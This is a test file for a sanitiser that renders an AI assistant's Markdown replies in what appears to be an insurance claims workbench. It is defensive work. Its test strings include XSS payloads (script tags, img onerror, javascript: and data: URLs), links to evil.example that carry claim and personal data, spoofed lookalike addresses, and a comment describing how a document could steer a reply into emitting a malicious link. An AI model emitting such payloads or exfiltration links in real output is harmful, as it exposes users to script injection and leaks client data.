// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify needs a spec-faithful DOM (happy-dom's NodeIterator loses its
// place when a node is removed, so everything after the first removed tag would go unchecked).
import { describe, expect, it } from 'vitest';
import { renderReply, type DescribeSource } from './render-reply';

const sources: Record<string, string> = {
  'doc:d3': 'Police report',
  'msg:c5': 'Email of 12 Mar 2026',
  'event:e1': 'Letter of claim received',
  'party:p2': 'Dana Hughes',
};
const describeSource: DescribeSource = (kind, id) => sources[`${kind}:${id}`];

function render(markdown: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = renderReply(markdown, describeSource);
  return host;
}

describe('renderReply: Markdown', () => {
  it('renders headings, lists, emphasis, tables and code', () => {
    const host = render('## Position\n\n- **Cover**: in force\n- *Excess*: £250\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x`');
    expect(host.querySelector('h2')?.textContent).toBe('Position');
    expect(host.querySelectorAll('li')).toHaveLength(2);
    expect(host.querySelector('strong')?.textContent).toBe('Cover');
    expect(host.querySelector('em')?.textContent).toBe('Excess');
    expect(host.querySelectorAll('td')).toHaveLength(2);
    expect(host.querySelector('code')?.textContent).toBe('x');
  });
});

/** Every attribute value in the reply that names a remote or script address. */
function addressAttributes(host: HTMLElement): string[] {
  return [...host.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].filter((a) => /(?:https?|javascript|data|mailto):|\/\//i.test(a.value)).map((a) => `${element.tagName}[${a.name}]`),
  );
}

describe('renderReply: links to outside sites are shown, never followed', () => {
  it('shows a Markdown link as its text and full address, with nothing to click', () => {
    const host = render('Details: [click here](https://evil.example/collect?q=CL-1001%20Dana%20Hughes%20AB12CDE) now.');
    expect(host.querySelector('a')).toBeNull();
    expect(addressAttributes(host)).toEqual([]);
    expect(host.textContent?.trim()).toBe('Details: click here (https://evil.example/collect?q=CL-1001%20Dana%20Hughes%20AB12CDE) now.');
    const shown = host.querySelector<HTMLElement>('.outside-link');
    expect(shown?.querySelector('.outside-link-address')?.textContent).toBe('https://evil.example/collect?q=CL-1001%20Dana%20Hughes%20AB12CDE');
    expect(shown?.title).toMatch(/not opened/);
  });

  it('shows a bare address once, as text', () => {
    const host = render('See https://www.financial-ombudsman.org.uk/ for the rules.');
    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent?.trim()).toBe('See https://www.financial-ombudsman.org.uk/ for the rules.');
  });

  it('makes raw HTML links and mailto links inert too, keeping their formatting', () => {
    const host = render(
      '<a href="https://evil.example/?d=1" target="_self" ping="https://evil.example/ping">**raw**</a> and [mail us](mailto:x@evil.example?body=claim) and <x@evil.example>',
    );
    expect(host.querySelector('a')).toBeNull();
    expect(addressAttributes(host)).toEqual([]);
    expect(host.textContent?.trim()).toBe('raw (https://evil.example/?d=1) and mail us (mailto:x@evil.example?body=claim) and x@evil.example');
    expect(host.querySelector('.outside-link strong')?.textContent).toBe('raw');
  });

  it('shows a link whose text is an address together with where it really goes', () => {
    const host = render('[https://www.gov.uk/](https://evil.example/?q=secret)');
    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent?.trim()).toBe('https://www.gov.uk/ (https://evil.example/?q=secret)');
  });

  it('keeps citation buttons working beside an inert link', () => {
    const host = render('The report [doc:d3] says so; [read more](https://evil.example/?q=x) [msg:c5]');
    const buttons = [...host.querySelectorAll<HTMLButtonElement>('button[data-cite]')];
    expect(buttons.map((b) => b.dataset.cite)).toEqual(['doc:d3', 'msg:c5']);
    expect(host.querySelector('a')).toBeNull();
  });

  it("leaves a marker inside a link text as text (the link is not the page's own)", () => {
    const host = render('[see [doc:d3]](https://evil.example/)');
    expect(host.querySelector('[data-cite]')).toBeNull();
    expect(host.textContent?.trim()).toBe('see [doc:d3] (https://evil.example/)');
  });
});

describe('renderReply: nothing loads a remote address', () => {
  it('drops table backgrounds, posters, sources and citations of addresses', () => {
    const host = render(
      '<table background="https://evil.example/t?q=1"><tr><td background="https://evil.example/c?q=2">x</td></tr></table>' +
        '<blockquote cite="https://evil.example/q">quote</blockquote><div src="https://evil.example/s" poster="https://evil.example/p">d</div>',
    );
    expect(addressAttributes(host)).toEqual([]);
    expect(host.querySelector('td')?.textContent).toBe('x');
    expect(host.querySelector('blockquote')?.textContent).toBe('quote');
  });
});

describe('renderReply: sanitising model output', () => {
  it('removes script tags and their content', () => {
    const html = renderReply('Hello <script>window.pwned = true</script> there', describeSource);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('pwned');
    expect(html).toContain('Hello');
  });

  it('neutralises <img onerror> (no image, no handler)', () => {
    const host = render('Look: <img src="x" onerror="alert(1)"> and ![chart](https://evil.example/leak?d=1)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.innerHTML).not.toMatch(/onerror|alert\(1\)|evil\.example/);
  });

  it('strips event handler attributes from allowed elements', () => {
    const host = render('<p onclick="alert(1)" onmouseover="alert(2)">text</p>');
    expect(host.querySelector('p')?.textContent).toBe('text');
    expect(host.innerHTML).not.toMatch(/onclick|onmouseover|alert/);
  });

  it('neutralises javascript: links in Markdown and in raw HTML', () => {
    const host = render('[click](javascript:alert(1)) and <a href="javascript:alert(2)">raw</a> and <a href="JaVaScRiPt:alert(3)">mixed</a>');
    expect(host.querySelector('a')).toBeNull();
    expect(addressAttributes(host)).toEqual([]);
    expect(host.innerHTML).not.toMatch(/javascript:/i);
    expect(host.textContent?.trim()).toBe('click and raw and mixed');
  });

  it('drops iframes, forms, styles and data: URLs', () => {
    const host = render(
      '<iframe src="https://evil.example"></iframe><form><input value="x"></form><style>body{display:none}</style>\n\n[d](data:text/html;base64,PHNjcmlwdD4=)',
    );
    expect(host.querySelector('iframe, form, input, style')).toBeNull();
    expect(host.innerHTML).not.toMatch(/data:text/);
    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent).toContain('d');
  });

  it('does not let model HTML forge a citation button', () => {
    const host = render('<button data-cite="doc:d3" onclick="alert(1)">fake</button><span data-cite="doc:d3">x</span>');
    expect(host.querySelector('[data-cite]')).toBeNull();
  });
});

describe('renderReply: citations', () => {
  it('turns each marker kind into a button naming its source', () => {
    const host = render('The police report [doc:d3] agrees with the email [msg:c5], the letter [event:e1] and [party:p2].');
    const buttons = [...host.querySelectorAll<HTMLButtonElement>('button[data-cite]')];
    expect(buttons.map((b) => b.dataset.cite)).toEqual(['doc:d3', 'msg:c5', 'event:e1', 'party:p2']);
    expect(buttons.map((b) => b.textContent)).toEqual(['Police report', 'Email of 12 Mar 2026', 'Letter of claim received', 'Dana Hughes']);
    expect(buttons.every((b) => b.type === 'button')).toBe(true);
    expect(host.textContent).toContain('The police report ');
  });

  it('links markers inside emphasis and list items', () => {
    const host = render('- **Confirmed [doc:d3]**\n- see [msg:c5]');
    expect(host.querySelectorAll('li button[data-cite]')).toHaveLength(2);
  });

  it('links adjacent markers separately', () => {
    const host = render('Both say so [doc:d3][msg:c5].');
    expect([...host.querySelectorAll<HTMLElement>('[data-cite]')].map((b) => b.dataset.cite)).toEqual(['doc:d3', 'msg:c5']);
  });

  it('leaves markers inside code spans and code blocks alone', () => {
    const host = render('Write `[doc:d3]` to cite.\n\n```\n[msg:c5]\n```');
    expect(host.querySelector('[data-cite]')).toBeNull();
    expect(host.querySelector('code')?.textContent).toBe('[doc:d3]');
    expect(host.querySelector('pre')?.textContent).toContain('[msg:c5]');
  });

  // A marker is written like a Markdown link label: followed by "(...)" it became a link, and a
  // reference definition of the same label (which a document could get a reply to include)
  // turned every marker into a link to an outside address. The marker is read first.
  it('keeps a marker a citation when parentheses or a link definition follow it', () => {
    for (const reply of [
      'See [doc:d3](p.4).',
      'See [doc:d3](javascript:alert(1)).',
      '[doc:d3]: https://evil.example/x?q=1\n\nSee [doc:d3].',
      'See [doc:d3][msg:c5].\n\n[msg:c5]: https://evil.example/y',
    ]) {
      const host = render(reply);
      expect(
        [...host.querySelectorAll<HTMLElement>('button[data-cite]')].map((b) => b.dataset.cite),
        reply,
      ).toEqual(reply.includes('msg:c5') ? ['doc:d3', 'msg:c5'] : ['doc:d3']);
      expect(host.querySelector('.outside-link'), reply).toBeNull();
      expect(addressAttributes(host), reply).toEqual([]);
    }
    expect(render('See [doc:d3](p.4).').textContent?.trim()).toBe('See Police report(p.4).');
  });

  it('shows a marker for a source the claim lacks as plain text, not a link', () => {
    const host = render('See [doc:nope].');
    expect(host.querySelector('[data-cite]')).toBeNull();
    expect(host.querySelector('.cite-missing')?.textContent).toBe('[doc:nope]');
  });

  it('ignores bracketed text that is not a marker', () => {
    const host = render('[note: check] and [file:x] and [doc:] stay as written');
    expect(host.querySelector('.cite')).toBeNull();
    expect(host.textContent?.trim()).toBe('[note: check] and [file:x] and [doc:] stay as written');
  });

  it('keeps a citation label as text even when the source title holds markup', () => {
    const host = document.createElement('div');
    host.innerHTML = renderReply('[doc:d9]', () => '<img src=x onerror=alert(1)>');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('button')?.textContent).toBe('<img src=x onerror=alert(1)>');
  });
});

// The assistant pane is about 450 px wide: a table of eight columns (the deadlines) ran to a
// thousand pixels, its last columns out of sight. A table of four or more columns is marked
// so the pane can show each row as a card of "column: value" lines when it is narrow.
describe('renderReply: wide tables', () => {
  const deadlines =
    '| Kind | Due | Days left | Status | What |\n|---|---|---|---|---|\n| Part 36 | 12 Dec 2026 | 3 | due soon | Accept or reject [doc:d3] |\n| Reply |  | | overdue | Chase |';

  it('labels each cell with its column and keeps the table a table to assistive technology', () => {
    const table = render(deadlines).querySelector('table')!;
    expect(table.classList.contains('stackable')).toBe(true);
    expect(table.getAttribute('role')).toBe('table');
    const rows = [...table.querySelectorAll('tbody tr')];
    expect(rows.map((row) => [...row.querySelectorAll('td')].map((td) => td.getAttribute('data-label')))).toEqual([
      ['Kind', 'Due', 'Days left', 'Status', 'What'],
      ['Kind', 'Due', 'Days left', 'Status', 'What'],
    ]);
    expect([...table.querySelectorAll('tr')].every((tr) => tr.getAttribute('role') === 'row')).toBe(true);
    expect([...table.querySelectorAll('thead th')].every((th) => th.getAttribute('role') === 'columnheader')).toBe(true);
    expect([...table.querySelectorAll('tbody td')].every((td) => td.getAttribute('role') === 'cell')).toBe(true);
    expect(table.querySelector('button[data-cite="doc:d3"]')?.closest('td')?.getAttribute('data-label')).toBe('What');
  });

  it('leaves a narrow table as it is', () => {
    const table = render('| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |').querySelector('table')!;
    expect(table.classList.contains('stackable')).toBe(false);
    expect(table.querySelector('td')?.hasAttribute('data-label')).toBe(false);
  });

  it('takes no label from a reply that writes its own data attributes', () => {
    const table = render('<table><tr><td data-label="x" role="button">1</td><td>2</td><td>3</td><td>4</td></tr></table>').querySelector('table')!;
    expect(table.querySelector('td')?.getAttribute('data-label')).toBeNull();
    expect(table.querySelector('td')?.getAttribute('role')).not.toBe('button');
  });
});

// Markdown nesting is parsed recursively: a long run of '>' or '- ' (written on a document's
// instructions, or an email quoted many times over) overflowed the parser's stack, and the
// error took the whole workbench down each time the conversation was reopened.
describe('renderReply: input the Markdown parser cannot take', () => {
  it('shows deeply nested quotes as text instead of throwing', () => {
    const host = render(`Before [doc:d3]\n\n${'>'.repeat(5000)} deep <img src=x onerror=alert(1)>`);
    expect(host.textContent).toContain('Before');
    expect(host.textContent).toContain(`${'>'.repeat(5000)} deep`);
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('button[data-cite="doc:d3"]')).not.toBeNull();
  });

  it('shows a deeply nested list as text instead of throwing', () => {
    const host = render(`${'- '.repeat(5000)}x`);
    expect(host.textContent).toContain('- - - x');
  });
});

// The address shown beside a link is what the handler judges it by; it must read as the address
// a browser would go to, not as a lookalike of a trusted one.
describe('renderReply: a link address cannot pass itself off as another', () => {
  it('shows a host spelt with lookalike letters in the form a browser uses (xn--)', () => {
    for (const reply of ['<a href="https://www.g\u03BFv.uk/claim?q=1">https://www.gov.uk/</a>', '[https://www.gov.uk/](https://www.g\u03BFv.uk/claim?q=1)']) {
      const shown = render(reply).querySelector('.outside-link-address')?.textContent ?? '';
      expect(shown, reply).toMatch(/^https:\/\/www\.xn--[a-z0-9-]+\.uk\/claim\?q=1$/);
    }
  });

  it('still shows a plain bare address once, and a bare lookalike address with its real form', () => {
    expect(render('See https://www.gov.uk for the rules.').textContent?.trim()).toBe('See https://www.gov.uk for the rules.');
    expect(render('Write to <claims@insurer.example>.').textContent?.trim()).toBe('Write to claims@insurer.example.');
    const shown = render('See <https://www.g\u03BFv.uk/> now.').querySelector('.outside-link-address')?.textContent ?? '';
    expect(shown).toMatch(/^https:\/\/www\.xn--/);
  });

  it('shows direction marks and invisible characters in an address escaped, not applied', () => {
    for (const reply of ['<a href="https://evil.example/\u202Eku.vog.www">HMRC</a>', '[HMRC](https://evil.example/\u200B\u202Eku.vog.www)']) {
      const shown = render(reply).querySelector('.outside-link-address')?.textContent ?? '';
      expect(shown, reply).toMatch(/^https:\/\/evil\.example\//);
      expect(shown, reply).not.toMatch(/\p{Cf}/u);
    }
  });
});
